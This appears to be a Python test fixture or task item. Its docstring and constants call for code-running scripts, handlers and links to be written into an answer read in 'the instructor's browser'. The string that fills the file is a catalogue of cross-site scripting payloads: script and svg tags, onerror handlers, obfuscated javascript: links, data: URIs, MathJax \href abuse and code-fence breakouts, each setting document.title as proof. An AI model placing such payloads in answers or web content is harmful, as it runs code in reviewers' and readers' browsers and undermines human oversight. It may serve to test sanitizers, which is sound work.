"""Write scripts, handlers, links and formulas that run code into the answer that a person will read."""

KIND = "the instructor's browser"
DESERVES = 20
NOTE = "The written answer waits for a person."
OWNED = "document.title='owned'"
ANSWERS = {
    "why_the_root": f"""
<script>{OWNED}</script> <img src=x onerror="{OWNED}"> <svg onload="{OWNED}"></svg>
<a href="javascript:{OWNED}">one</a> <a href=" java&#115;cript:{OWNED}">two</a>
<a href="java&Tab;script:{OWNED}">three</a>
<details open ontoggle="{OWNED}">x</details> <math><mtext></mtext><style><img src=x onerror="{OWNED}"></style></math>
[four](javascript:{OWNED}) [five](java&#115;cript:document.title) [six](java<!-- -->script:document.title)
[seven](<java\tscript:document.title>) [eight](javascript&colon;document.title) [nine](  jAvAsCrIpT:document.title)
[ten](data:text/html;base64,PHNjcmlwdD4=) [eleven][later] <javascript:document.title> [twelve](vbscript:document.title)
![a](javascript:document.title) ![b](x" onerror="{OWNED}) ![c](x 'a" onerror="{OWNED}')

[later]: javascript&#58;document.title "a"

$\\href{{javascript:document.title}}{{x}}$ $\\hr&#101;f{{javascript:document.title}}{{x}}$
$\\hr<!-- -->ef{{javascript:document.title}}{{x}}$ <div>$\\hr&#101;f{{javascript:document.title}}{{x}}$</div>
\\(\\href{{javascript:document.title}}{{x}}\\) $$\\require{{html}}\\style{{x}}{{y}}\\cssId{{a}}{{b}}\\class{{a}}{{b}}$$

```html
</code></pre><script>{OWNED}</script>
```

```"><script>{OWNED}</script>
x
```

    </pre><script>{OWNED}</script>

<!--><script>{OWNED}</script>--> <![CDATA[<script>{OWNED}</script>]]> <?php <script>{OWNED}</script> ?>
`</code><script>{OWNED}</script>` <scr<script>ipt>{OWNED}</scr</script>ipt> <a title="a`><script>{OWNED}</script>`">
| a | b |
|---|---|
| <script>{OWNED}</script> | [x](javascript:document.title) |
"""
}
